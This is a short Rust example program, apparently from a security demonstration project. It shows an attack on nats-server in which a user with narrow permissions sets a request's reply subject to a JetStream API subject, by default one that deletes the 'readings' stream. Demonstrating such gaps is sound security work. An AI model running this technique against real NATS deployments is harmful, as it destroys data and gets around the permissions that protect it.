//! An attack: nats-server sends its answer to the reply subject of a request, even if the requester may
//! not publish there. This one asks for orders, and names a subject of the JetStream API.
//!
//! ```sh
//! # with order-consumer's line
//! cargo run -p secure --example attack-reply-subject -- '$JS.API.STREAM.DELETE.readings'
//! ```

use std::io::{Write, stdout};

mod user;

/// What order-consumer may do: ask for orders. With `no_wait`, if there are none, nats-server answers
/// at once, with a status without a body.
const ASK: &str = "$JS.API.CONSUMER.MSG.NEXT.playgrnd_stream.order_processor";

#[tokio::main]
async fn main() -> Result<(), async_nats::Error> {
    let reply_to = std::env::args().nth(1).unwrap_or("$JS.API.STREAM.DELETE.readings".into());
    let (nats, mut denials) = user::connect().await?;
    nats.publish_with_reply(ASK, reply_to.clone(), r#"{"batch":1,"no_wait":true}"#.into()).await?;
    user::handled(&nats, &mut denials).await?;
    writeln!(stdout(), "asked for orders, the reply goes to {reply_to}")?;
    Ok(())
}
